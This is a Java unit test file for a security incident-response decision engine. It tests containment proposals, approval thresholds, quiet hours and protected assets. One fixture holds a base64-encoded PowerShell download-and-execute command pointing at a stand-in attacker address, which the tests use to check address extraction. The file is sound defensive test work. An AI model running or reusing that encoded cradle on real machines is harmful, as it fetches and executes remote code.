package dev.vedette.respond.decide;

import static dev.vedette.testkit.FindingBuilder.finding;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vedette.model.Attack;
import dev.vedette.model.Entity;
import dev.vedette.model.Finding;
import dev.vedette.model.Incident;
import dev.vedette.model.Incident.Relation;
import dev.vedette.model.LogSource;
import dev.vedette.model.Observable;
import dev.vedette.model.Severity;
import dev.vedette.model.Tactic;
import dev.vedette.model.TenantId;
import dev.vedette.respond.openc2.ActionClass;
import dev.vedette.respond.openc2.Target;
import dev.vedette.respond.policy.Autonomy;
import dev.vedette.respond.policy.Limits;
import dev.vedette.respond.policy.Policy;
import dev.vedette.respond.policy.Precious;
import dev.vedette.respond.policy.QuietHours;
import java.time.DayOfWeek;
import java.time.Instant;
import java.time.LocalTime;
import java.time.ZoneOffset;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

class DecisionEngineTest {
  private static final Instant NOW = Instant.parse("2026-11-25T12:00:00Z");
  private static final Entity HOST = new Entity(Entity.Type.HOST, "ws-7");
  private static final Entity USER = new Entity(Entity.Type.USER, "corp\\ann");
  private static final Entity MASTER = new Entity(Entity.Type.ADDRESS, "203.0.113.50");
  private static final Entity PROCESS = new Entity(Entity.Type.PROCESS, "upd.exe (ws-7, 6012)");

  private final DecisionEngine engine = new DecisionEngine();

  @Test
  void cutsAnEarlyAttackOffFromItsMasterAndTouchesNobodyElse() {
    var decision = engine.decide(situation(beginning(), policy(Autonomy.APPROVE)));

    assertThat(decision.proposals())
        .extracting(Proposal::target)
        .containsExactly(new Target.Address("203.0.113.50"));
    assertThat(decision.proposals()).extracting(Proposal::level).containsOnly(Autonomy.APPROVE);
    assertThat(decision.open()).isEmpty();
  }

  @Test
  void takesTheMachineAndTheAccountOnceTheAttackSpreads() {
    var spreading =
        incident(
            List.of(
                new Attack(Tactic.EXECUTION, "T1059"),
                new Attack(Tactic.LATERAL_MOVEMENT, "T1021.002")),
            relations());

    var decision = engine.decide(situation(spreading, policy(Autonomy.APPROVE)));

    assertThat(decision.proposals())
        .extracting(Proposal::type)
        .containsExactlyInAnyOrder(
            ActionClass.CONTAIN_HOST, ActionClass.CONTAIN_USER, ActionClass.DENY_ADDRESS);
  }

  @Test
  void actsByItselfOnlyOnEvidenceThatIsProvedEarnedAndAllowed() {
    var proved = situation(beginning(), policy(Autonomy.ACT));

    var decision = engine.decide(proved);

    assertThat(decision.proposals()).extracting(Proposal::level).containsOnly(Autonomy.ACT);
    assertThat(decision.proof().sensors()).containsExactly("windows-security", "windows-sysmon");
    assertThat(decision.proof().lower()).isGreaterThan(0.95);
  }

  @Test
  void leavesItToPeopleUntilItIsEarnedUnlessAnAdministratorOverrides() {
    var allowed = policy(Autonomy.ACT);
    var overridden =
        new Policy(
            allowed.general(),
            allowed.autonomy(),
            Set.of(ActionClass.DENY_ADDRESS),
            allowed.leastRisk(),
            allowed.certainty(),
            allowed.quiet(),
            allowed.precious(),
            allowed.limits(),
            Map.of(),
            false);
    var none = Map.<ActionClass, TrackRecord>of();

    var held = engine.decide(situation(beginning(), findings(), allowed, none)).proposals();
    var free = engine.decide(situation(beginning(), findings(), overridden, none)).proposals();

    assertThat(held.getFirst().level()).isEqualTo(Autonomy.APPROVE);
    assertThat(held.getFirst().wouldAct()).isTrue();
    assertThat(held.getFirst().hindrances()).singleElement().asString().contains("right 0 times");
    assertThat(free.getFirst().level()).isEqualTo(Autonomy.ACT);
  }

  @Test
  void neverActsOnAnAnomalyAlone() {
    var unusual =
        findings().stream()
            .map(each ->
                finding("Odd " + each.uid())
                    .unusual()
                    .confidence(99)
                    .severity(Severity.CRITICAL)
                    .from(each.eventType().source())
                    .record(each.origin().record())
                    .build())
            .toList();

    var decision =
        engine.decide(situation(beginning(), unusual, policy(Autonomy.ACT), everythingEarned()));

    assertThat(decision.proof().isAnomalyAlone()).isTrue();
    assertThat(decision.proposals()).extracting(Proposal::level).containsOnly(Autonomy.APPROVE);
    assertThat(decision.proposals()).extracting(Proposal::wouldAct).containsOnly(false);
  }

  @Test
  void countsRulesThatRestOnOneEventOnce() {
    var same =
        IntStream.range(0, 12)
            .mapToObj(i -> finding("Rule " + i).confidence(95).record(7).build())
            .toList();

    var proof = Proof.of(same, Map.of());

    assertThat(proof.detectors()).hasSize(1);
    assertThat(proof.gaps(0.5)).contains("fewer than two detectors noticed it independently");
  }

  @Test
  void asksForTwoKindsOfSensors() {
    var one =
        IntStream.range(0, 12)
            .mapToObj(
                i -> finding("Rule " + i).confidence(95).from("windows-sysmon").record(i).build())
            .toList();

    var proof = Proof.of(one, Map.of());

    assertThat(proof.gaps(0.5)).containsExactly("fewer than two kinds of sensors saw it");
  }

  @Test
  void believesADetectorLessThatPeopleHaveFoundWrong() {
    var wrong = Map.of("rule-Rule-0", new TrackRecord(2, 60), "rule-Rule-1", new TrackRecord(0, 9));

    assertThat(Proof.of(findings(), wrong).lower())
        .isLessThan(Proof.of(findings(), Map.of()).lower());
  }

  @Test
  void leavesQuietHoursToPeople() {
    var quiet =
        new QuietHours(
            EnumSet.allOf(DayOfWeek.class),
            LocalTime.of(8, 0),
            LocalTime.of(18, 0),
            ZoneOffset.UTC);
    var allowed = policy(Autonomy.ACT);
    var policy =
        new Policy(
            Autonomy.ACT,
            Map.of(),
            Set.of(),
            allowed.leastRisk(),
            allowed.certainty(),
            List.of(quiet),
            List.of(),
            Limits.DEFAULT,
            Map.of(),
            false);

    var decision = engine.decide(situation(beginning(), policy));

    assertThat(decision.proposals().getFirst().level()).isEqualTo(Autonomy.APPROVE);
    assertThat(decision.proposals().getFirst().hindrances())
        .containsExactly("these are quiet hours");
  }

  @Test
  void findsAnotherWayAroundWhatIsProtectedOrSaysThatThereIsNone() {
    var mine = new Precious(Target.Kind.ADDRESS, "203.0.113.*", Precious.Role.PROTECTED, 1);
    var policy = policy(Autonomy.ACT, mine);

    var decision = engine.decide(situation(beginning(), policy));

    assertThat(decision.proposals()).isEmpty();
    assertThat(decision.open())
        .containsExactly("Address 203.0.113.50 stays open: it is set down as protected.");
  }

  @Test
  void prefersTheMachineWhoseAbsenceCostsLess() {
    var incident =
        incident(List.of(new Attack(Tactic.IMPACT, "T1486")), List.of(ran("upd.exe (ws-7, 6012)")));

    var decision = engine.decide(situation(incident, policy(Autonomy.APPROVE)));

    assertThat(decision.proposals())
        .extracting(Proposal::type)
        .containsExactly(ActionClass.CONTAIN_HOST, ActionClass.DENY_ADDRESS);
    assertThat(decision.proposals().getFirst().alternatives())
        .containsExactly("Without it the attack is not cut off.");
  }

  @Test
  void readsTheMasterOutOfAnEncodedCommand() {
    var encoded =
        "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA"
            + "bABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8A"
            + "MgAwADMALgAwAC4AMQAxADMALgA1ADAALwBhACcAKQA=";
    var finding = finding("Encoded").processCreation("powershell.exe", encoded).build();

    assertThat(CommandLines.internet(List.of(finding)))
        .isEqualTo(Map.of(MASTER, Set.of(finding.uid())));
  }

  @Test
  void takesHostileCommandLinesForWhatTheyAre() {
    var lines =
        List.of(
            "curl http://",
            "curl https://[::::]/",
            "x ".repeat(50_000) + "http://late.example/",
            "A".repeat(100_000),
            "http://localhost/ http://10.0.0.1/ http://intranet/",
            "http://" + "a".repeat(300) + ".example");
    var findings =
        lines.stream().map(line -> finding("Odd").processCreation("a", line).build()).toList();

    assertThat(CommandLines.internet(findings)).isEmpty();
  }

  @Test
  void decidesTheSameAboutTheSame() {
    var situation = situation(beginning(), policy(Autonomy.ACT));

    assertThat(engine.decide(situation)).isEqualTo(engine.decide(situation));
  }

  @Test
  void recommendsWhatNothingConnectedCanDo() {
    var situation =
        new Situation(
            "i1",
            beginning(),
            findings(),
            policy(Autonomy.ACT),
            Set.of(),
            Map.of(),
            everythingEarned(),
            NOW);

    var proposal = engine.decide(situation).proposals().getFirst();

    assertThat(proposal.level()).isEqualTo(Autonomy.RECOMMEND);
    assertThat(proposal.hindrances()).containsExactly("nothing is connected that can do it");
  }

  @Test
  void leavesSmallIncidentsToPeople() {
    var policy =
        new Policy(
            Autonomy.ACT,
            Map.of(),
            Set.of(),
            100,
            0.5,
            List.of(),
            List.of(),
            Limits.DEFAULT,
            Map.of(),
            false);

    var decision = engine.decide(situation(beginning(), policy));

    assertThat(decision.proposals()).isEmpty();
    assertThat(decision.open()).singleElement().asString().contains("left to people");
  }

  @Test
  void inACloudASessionEndsWithItsOwnerAndNothingIsBlockedAtAnEdgeThatIsNotThere() {
    var bob = new Entity(Entity.Type.USER, "bob");
    var key = new Entity(Entity.Type.RESOURCE, "access key ASIAEXAMPLE");
    var account = new Entity(Entity.Type.RESOURCE, "cloud account 111122223333");
    var uids = findings().stream().map(Finding::uid).toList();
    var incident =
        new Incident(
            "content",
            new TenantId("acme"),
            "Something happened",
            List.of(),
            Severity.HIGH,
            90,
            90,
            List.of(),
            NOW.minusSeconds(600).toEpochMilli(),
            NOW.toEpochMilli(),
            List.of(bob, key, account, MASTER),
            List.of(new Attack(Tactic.PERSISTENCE, "T1098")),
            List.of(
                new Relation(bob, "used", key, uids), new Relation(bob, "acted in", account, uids)),
            uids,
            List.of(new LogSource("aws", null, "cloudtrail")));

    var decision = engine.decide(situation(incident, policy(Autonomy.APPROVE)));

    assertThat(decision.proposals())
        .extracting(Proposal::target)
        .containsExactly(new Target.User("bob"));
    assertThat(decision.open()).isEmpty();
  }

  private static Incident beginning() {
    return incident(List.of(new Attack(Tactic.EXECUTION, "T1059.001")), relations());
  }

  private static List<Relation> relations() {
    var uids = findings().stream().map(Finding::uid).toList();
    return List.of(
        new Relation(USER, "ran", PROCESS, uids),
        new Relation(PROCESS, "ran on", HOST, uids),
        new Relation(PROCESS, "connected to", MASTER, uids));
  }

  private static Relation ran(String process) {
    return new Relation(
        new Entity(Entity.Type.PROCESS, process),
        "ran on",
        HOST,
        findings().stream().map(Finding::uid).toList());
  }

  private static Incident incident(List<Attack> attacks, List<Relation> relations) {
    return new Incident(
        "content",
        new TenantId("acme"),
        "Something happened",
        List.of(),
        Severity.HIGH,
        90,
        90,
        List.of(),
        NOW.minusSeconds(600).toEpochMilli(),
        NOW.toEpochMilli(),
        List.of(HOST, PROCESS, USER, MASTER),
        attacks,
        relations,
        findings().stream().map(Finding::uid).toList());
  }

  /** Eight rules on two kinds of logs. */
  private static List<Finding> findings() {
    return IntStream.range(0, 8)
        .mapToObj(i ->
            finding("Rule " + i)
                .severity(Severity.HIGH)
                .confidence(85)
                .from(i % 2 == 0 ? "windows-sysmon" : "windows-security")
                .record(i)
                .with("device.hostname", Observable.Type.HOSTNAME, "ws-7")
                .build())
        .toList();
  }

  private static Policy policy(Autonomy level, Precious... precious) {
    return new Policy(
        level,
        Map.of(),
        Set.of(),
        50,
        0.95,
        List.of(),
        List.of(precious),
        Limits.DEFAULT,
        Map.of(),
        false);
  }

  private static Map<ActionClass, TrackRecord> everythingEarned() {
    return Map.copyOf(
        Stream.of(ActionClass.values())
            .collect(Collectors.toMap(each -> each, _ -> new TrackRecord(400, 0))));
  }

  private static Situation situation(Incident incident, Policy policy) {
    return situation(incident, findings(), policy, everythingEarned());
  }

  private static Situation situation(
      Incident incident,
      List<Finding> findings,
      Policy policy,
      Map<ActionClass, TrackRecord> earned) {
    return new Situation(
        "i1", incident, findings, policy, EnumSet.allOf(ActionClass.class), Map.of(), earned, NOW);
  }
}
